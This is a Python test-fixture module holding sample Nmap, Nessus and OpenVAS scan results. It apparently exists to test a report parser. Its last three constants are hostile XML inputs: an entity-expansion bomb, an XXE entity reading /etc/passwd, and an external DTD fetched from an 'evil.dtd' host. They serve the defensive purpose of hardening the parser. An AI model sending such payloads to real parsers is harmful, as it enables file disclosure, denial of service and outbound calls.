"""Results as the three scanners write them."""

from __future__ import annotations

NMAP = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nmaprun>
<?xml-stylesheet href="file:///usr/share/nmap/nmap.xsl" type="text/xsl"?>
<nmaprun scanner="nmap" args="nmap -sV -oX out.xml"
 start="1764000000" version="7.94" xmloutputversion="1.05">
<scaninfo type="syn" protocol="tcp" numservices="1000" services="1-1000"/>
<host starttime="1764000001" endtime="1764000090"><status state="up" reason="echo-reply"/>
<address addr="10.1.2.5" addrtype="ipv4"/><address addr="00:50:56:AA:BB:CC" addrtype="mac"/>
<hostnames><hostname name="db01" type="PTR"/></hostnames>
<ports><extraports state="closed" count="997"/>
<port protocol="tcp" portid="23"><state state="open" reason="syn-ack"/><service name="telnet" method="probed"/></port>
<port protocol="tcp" portid="443"><state state="open"/><service name="https" product="nginx" version="1.24.0"/></port>
<port protocol="tcp" portid="445"><state state="open"/><service name="microsoft-ds"/>
<script id="smb-vuln-ms17-010" output="VULNERABLE: Remote Code Execution (ms17-010) IDs: CVE:CVE-2017-0143"/></port>
<port protocol="tcp" portid="8080"><state state="closed"/></port></ports></host>
<host><status state="down"/><address addr="10.1.2.9" addrtype="ipv4"/></host>
<runstats><finished time="1764000100"/><hosts up="1" down="255" total="256"/></runstats>
</nmaprun>"""


def nessus(hosts: dict[str, str], stamp: int = 1764000000) -> str:
    """A Nessus v2 file: address → its ReportItems."""
    listed = "".join(
        f'<ReportHost name="{name}"><HostProperties><tag name="HOST_START_TIMESTAMP">{stamp}</tag>'
        f'<tag name="host-ip">{name}</tag></HostProperties>{items}</ReportHost>'
        for name, items in hosts.items()
    )
    policy = "<Policy><policyName>Basic Network Scan</policyName></Policy>"
    report = f'<Report name="季度扫描" xmlns:cm="http://www.nessus.org/cm">{listed}</Report>'
    return f'<?xml version="1.0" ?>\n<NessusClientData_v2>{policy}{report}</NessusClientData_v2>'


LOG4J = (
    '<ReportItem port="8080" svc_name="www" protocol="tcp" severity="4" pluginID="155999" '
    'pluginName="Apache Log4j &lt; 2.15.0 Remote Code Execution" pluginFamily="Misc.">'
    "<cve>CVE-2021-44228</cve><cvss3_base_score>10.0</cvss3_base_score><cvss_base_score>9.3</cvss_base_score>"
    "<synopsis>A package installed on the remote host is affected.</synopsis></ReportItem>"
)
STRANGE = (
    '<ReportItem port="9443" svc_name="www" protocol="tcp" severity="0" pluginID="10287" '
    'pluginName="Traceroute Information" pluginFamily="General"><risk_factor>None</risk_factor></ReportItem>'
)
OPENVAS = """<report id="r1" format_id="f" extension="xml" content_type="text/xml"><owner><name>admin</name></owner>
<report id="r1"><gmp><version>22.4</version></gmp><scan_start>2025-11-24T16:00:00Z</scan_start>
<results start="1" max="-1"><result id="x1"><name>SSL/TLS: Deprecated TLSv1.0 Protocol Detection</name>
<host>10.1.2.5<asset asset_id="a"/></host><port>443/tcp</port>
<nvt oid="1.3.6.1.4.1.25623.1.0.117274"><type>nvt</type><name>SSL/TLS: Deprecated TLSv1.0 Protocol Detection</name>
<family>SSL and TLS</family><cvss_base>4.3</cvss_base><refs><ref type="cve" id="CVE-2011-3389"/></refs></nvt>
<threat>Medium</threat><severity>4.3</severity><description>The service accepts TLSv1.0.</description></result>
</results></report></report>"""
LAUGHS = """<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><nmaprun start="1"><host><address addr="&c;"/></host></nmaprun>"""
OUTSIDE = """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<nmaprun><host><address addr="&x;" addrtype="ipv4"/></host></nmaprun>"""
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE nmaprun SYSTEM "http://192.0.2.1/evil.dtd"><nmaprun/>'
